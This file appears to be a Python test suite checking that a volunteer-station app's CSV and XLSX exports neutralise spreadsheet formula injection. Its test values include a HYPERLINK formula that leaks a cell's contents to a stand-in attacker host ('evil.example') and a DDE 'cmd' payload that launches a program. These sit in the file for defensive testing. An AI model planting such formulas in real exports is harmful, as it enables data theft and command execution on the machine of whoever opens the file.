"""Formula injection: a name, a note or a service name written like a formula comes out of every
CSV and XLSX export as inert text (OWASP "CSV injection")."""
import csv
import datetime
import io
import re
import zipfile

import openpyxl

import models
from core import attendance, exports, people
from core.clock import local_to_utc
from core.stations import default_station
from models import Service, VolunteerShift
from tests.helpers import connected, csrf_token, gen_user, local_today, login_as
from tests.test_import import roster, upload

# What an attacker on the staff would type, and what a careless copy-paste brings.
RESIDENT = '=HYPERLINK("http://evil.example/?"&C2,"点这里")'
VOLUNTEER = "+SUM(1,1)王"
OTHER = "@SUM(A1)李"
NOTES = "-2+3 腿疼"
SERVICE = "=1+1康复"
RECORD_NOTE = "\t=cmd|' /C calc'!A0"
SHIFT_CONTENT = "  =2+3 陪同"
VOID_REASON = "＝1+2"
PAYLOADS = [RESIDENT, VOLUNTEER, OTHER, SERVICE, RECORD_NOTE, SHIFT_CONTENT]


def formula_like(text):
    """A cell a spreadsheet would run: = + - @ first (also after spaces), or a tab or CR."""
    return isinstance(text, str) and bool(text) and (
        text[0] in "\t\r" or text.lstrip(" \u3000\n")[:1] in ("=", "+", "-", "@", "＝"))


def arrange(app):
    """A day with hostile names everywhere: a resident, a volunteer, a service, notes."""
    with connected(app):
        station = default_station()
        service = Service.create(station=station, code="evil", name_zh=SERVICE, name_en=SERVICE)
        resident, _ = people.add_person(station, RESIDENT, "resident", actor_label="test")
        volunteer, _ = people.add_person(station, VOLUNTEER, "volunteer", actor_label="test")
        other, _ = people.add_person(station, OTHER, "resident", actor_label="test")
        admin = gen_user("admin")
        people.update_person(resident, {"notes": NOTES}, actor=admin)
        day = local_today()
        at = local_to_utc(station, day, datetime.time(9, 0))
        attendance.check_in(resident, station, at=at)
        attendance.check_in(other, station, at=at + datetime.timedelta(minutes=3))
        record = attendance.record_services(resident, station, [service], provider=volunteer,
                                            at=at + datetime.timedelta(minutes=10),
                                            note=RECORD_NOTE)[0]
        record.voided_at, record.void_reason = models.utcnow(), VOID_REASON
        record.save()
        attendance.record_services(resident, station, [service], provider=volunteer,
                                   at=at + datetime.timedelta(minutes=20))
        shift, _ = attendance.start_shift(volunteer, station, at=at, content=SHIFT_CONTENT)
        attendance.end_shift(volunteer, station, at=at + datetime.timedelta(hours=2))
        VolunteerShift.update(status="confirmed").where(VolunteerShift.id == shift.id).execute()
        return {"admin": admin, "resident": resident.id, "day": day}


def assert_inert_xlsx(data, expected):
    """No formula anywhere (XML and openpyxl agree), every payload kept as text, marked."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(rb"<(\w+:)?f[ >/]", archive.read(name)), name
    book = openpyxl.load_workbook(io.BytesIO(data))  # not data_only: formulas would show
    values = []
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if formula_like(cell.value):
                    assert cell.quotePrefix, (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    for payload in expected:
        assert any(isinstance(v, str) and payload in v for v in values), payload
    return values


def assert_inert_csv(data, expected):
    """No cell a spreadsheet would run; every payload there, behind an apostrophe."""
    assert data.startswith(b"\xef\xbb\xbf")
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert [c for c in cells if formula_like(c)] == []
    for payload in expected:
        assert any(c == "'" + payload or (payload in c and not formula_like(payload))
                   for c in cells), payload
    return cells


def test_the_log_of_a_day_and_a_range_holds_no_formula(app):
    """Are names, notes, a service name and a void reason written like formulas inert in
    the day's and the range's log, as CSV and as XLSX?"""
    arranged = arrange(app)
    client = app.test_client()
    login_as(client, arranged["admin"])
    day = arranged["day"]
    expected = [RESIDENT, VOLUNTEER, OTHER, SERVICE, RECORD_NOTE, SHIFT_CONTENT]
    for query in ("date=%s" % day, "start=%s&end=%s" % (day.replace(day=1), day)):
        response = client.get("/admin/reports/log?%s&format=csv" % query)
        assert response.status_code == 200
        cells = assert_inert_csv(response.data, expected)
        assert any(VOID_REASON in c for c in cells)
        response = client.get("/admin/reports/log?%s&format=xlsx" % query)
        assert response.status_code == 200
        assert_inert_xlsx(response.data, expected)


def test_the_report_holds_no_formula(app):
    """Are a service name and a volunteer's name written like formulas inert in the report,
    as CSV and as XLSX?"""
    arranged = arrange(app)
    client = app.test_client()
    login_as(client, arranged["admin"])
    day = arranged["day"]
    query = "start=%s&end=%s" % (day.replace(day=1), day)
    response = client.get("/admin/reports/export.csv?" + query)
    assert response.status_code == 200
    assert_inert_csv(response.data, [SERVICE, VOLUNTEER])
    response = client.get("/admin/reports/export.xlsx?" + query)
    assert response.status_code == 200
    assert_inert_xlsx(response.data, [SERVICE, VOLUNTEER])


def test_a_copy_of_a_persons_data_holds_no_formula(app):
    """Is the copy of a person's data (name, notes, services, audit rows) inert as XLSX?"""
    arranged = arrange(app)
    client = app.test_client()
    login_as(client, arranged["admin"])
    response = client.get("/admin/people/%d/copy?format=xlsx" % arranged["resident"])
    assert response.status_code == 200
    assert_inert_xlsx(response.data, [RESIDENT, NOTES, SERVICE, RECORD_NOTE])


def test_the_command_line_export_holds_no_formula(app, runner, tmp_path):
    """Is `flask export` inert, as CSV and as XLSX?"""
    arranged = arrange(app)
    for fmt in ("csv", "xlsx"):
        out = tmp_path / ("day." + fmt)
        result = runner.invoke(args=["export", "--date", arranged["day"].isoformat(),
                                     "--format", fmt, "--out", str(out)])
        assert result.exit_code == 0, result.output
        check = assert_inert_csv if fmt == "csv" else assert_inert_xlsx
        check(out.read_bytes(), [RESIDENT, VOLUNTEER, SERVICE])


def test_the_import_error_report_holds_no_formula(app, client):
    """Are the refused rows of a roster (a CSV typed by hand), written like formulas, inert
    in the error report?"""
    with connected(app):
        user = gen_user("admin")
    login_as(client, user)
    header, rows, _reasons = roster(3, bad=False)
    name, phone, notes = (header.index(h) for h in ("姓名", "联系电话", "备注"))
    rows[1][name], rows[1][phone], rows[1][notes] = RESIDENT, "不详", "-1+1"
    rows[2][name], rows[2][phone], rows[2][notes] = "王秀英", "@SUM(1)", "+CMD()"
    text = io.StringIO()
    csv.writer(text).writerows([header] + rows)
    response = upload(client, text.getvalue().encode("utf-8"), "花名册.csv")
    mapping_url = response.headers["Location"]
    token = mapping_url.split("/")[-2]
    form = {"csrf_token": csrf_token(client, mapping_url), "kind": "resident",
            "consent": "none"}
    from core import roster_import
    for index, field in enumerate(roster_import.recognise(header)):
        form["col-%d" % index] = field or ""
    preview_url = client.post(mapping_url, data=form).headers["Location"]
    client.post(preview_url.replace("/preview", "/apply"),
                data={"csrf_token": csrf_token(client, preview_url)})
    report = client.get("/admin/import/%s/errors.xlsx" % token)
    assert report.status_code == 200
    values = assert_inert_xlsx(report.data, [RESIDENT, "-1+1", "@SUM(1)", "+CMD()"])
    assert "不详" in values


def test_every_writer_uses_the_one_rule():
    """Do the CSV and XLSX writers of core.exports treat text alike: numbers stay numbers,
    text that could be a formula (also after spaces, also full-width) is marked, other
    text is written as it is?"""
    rows = [["a", 5, -3, 2.5, None, "=1", " +1", "\r@x", "－2", "普通", "a=b", "'quoted"]]
    cells = list(csv.reader(io.StringIO(exports.to_csv(rows).decode("utf-8-sig"))))[0]
    assert cells == ["a", "5", "-3", "2.5", "", "'=1", "' +1", "'\r@x", "'－2", "普通",
                     "a=b", "'quoted"]
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx(rows)))
    values = [c.value for c in book.active[1]]
    assert values[:4] == ["a", 5, -3, 2.5]
    # XML reads a carriage return back as a line feed; the cell is still marked as text.
    assert values[5:] == ["=1", " +1", "\n@x", "－2", "普通", "a=b", "'quoted"]
    assert [c.quotePrefix for c in book.active[1]][5:] == [True] * 4 + [False] * 3
    assert all(c.data_type != "f" for c in book.active[1])


def test_characters_xml_cannot_hold_do_not_stop_an_export():
    """Does a stored note with a control character still export (shown as U+FFFD)?"""
    book = openpyxl.load_workbook(io.BytesIO(exports.to_xlsx([["记录\x01备注"]])))
    assert book.active["A1"].value == "记录\ufffd备注"
